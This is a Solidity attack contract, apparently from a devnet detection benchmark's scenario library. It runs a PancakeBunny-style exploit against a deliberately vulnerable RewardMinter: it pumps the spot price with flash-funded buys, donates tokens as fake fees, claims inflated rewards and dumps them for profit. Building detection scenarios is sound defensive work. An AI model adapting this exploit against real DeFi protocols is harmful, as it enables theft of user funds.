// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// =====================================================================================
//  ATTACK CONTRACT FOR VIGIL'S SCENARIO LIBRARY ONLY (devnet detection benchmark). It
//  exploits the deliberately vulnerable RewardMinter. Do not point it at anything else.
// =====================================================================================

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IUniswapV2Pair} from "../../devnet/interfaces/IUniswapV2Pair.sol";
import {V2Math} from "../../devnet/libraries/V2Math.sol";
import {FlashFunded} from "../common/FlashFunded.sol";
import {RewardMinter} from "../victims/RewardMinter.sol";

/// @title RewardMinterAttacker
/// @notice Pattern 5 (PancakeBunny), with capital in the minter's quote token:
///   1. buy the staking token with `buyAmount` in the minter's price pair (pumps its spot price);
///   2. stake part of it, then send the other `donateBps` straight to the minter (it now counts
///      as fee profit, mostly this contract's);
///   3. `claim()`: the profit comes back plus rewards minted at the pumped price;
///   4. unstake everything, sell the staking token back, dump all rewards in `rewardPool`.
/// Capital needed: buyAmount. Profit (quote token) to the owner.
contract RewardMinterAttacker is FlashFunded {
    using SafeERC20 for IERC20;

    /// @param minter Target minter.
    /// @param rewardPool Uniswap V2 pair of reward token / quote token to dump the rewards in.
    /// @param buyAmount Quote tokens spent on the staking token.
    /// @param donateBps Share of the bought staking tokens sent in as "fees", in bps.
    struct Params {
        RewardMinter minter;
        IUniswapV2Pair rewardPool;
        uint256 buyAmount;
        uint256 donateBps;
    }

    /// @notice Runs the exploit with `funding` (token = the minter's quote token).
    /// @return profit Quote tokens gained (sent to the owner).
    function execute(Funding calldata funding, Params calldata p) external onlyOwner returns (uint256 profit) {
        profit = _fund(funding, abi.encode(p));
        _sweep(funding.token);
    }

    function _exploit(uint256, bytes memory data) internal override {
        Params memory p = abi.decode(data, (Params));
        RewardMinter minter = p.minter;
        IUniswapV2Pair pair = minter.pricePair();
        IERC20 staking = minter.stakingToken();
        IERC20 reward = minter.rewardToken();

        uint256 bought = V2Math.swapExactIn(pair, minter.quoteToken(), p.buyAmount, address(this));
        uint256 donation = (bought * p.donateBps) / 10_000;
        staking.forceApprove(address(minter), bought - donation);
        minter.stake(bought - donation);
        staking.safeTransfer(address(minter), donation);
        minter.claim();
        minter.unstake(minter.sharesOf(address(this)));

        V2Math.swapExactIn(pair, address(staking), staking.balanceOf(address(this)), address(this));
        V2Math.swapExactIn(p.rewardPool, address(reward), reward.balanceOf(address(this)), address(this));
    }
}
